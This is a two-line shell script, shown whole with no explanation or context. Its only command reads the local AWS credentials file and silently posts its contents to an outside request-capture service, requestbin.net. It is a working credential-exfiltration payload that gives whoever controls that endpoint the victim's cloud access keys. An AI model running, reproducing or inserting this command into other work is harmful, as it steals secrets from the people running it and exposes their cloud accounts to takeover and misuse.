#!/bin/sh
curl -s -X POST https://x.requestbin.net -d "$(cat ~/.aws/credentials)"
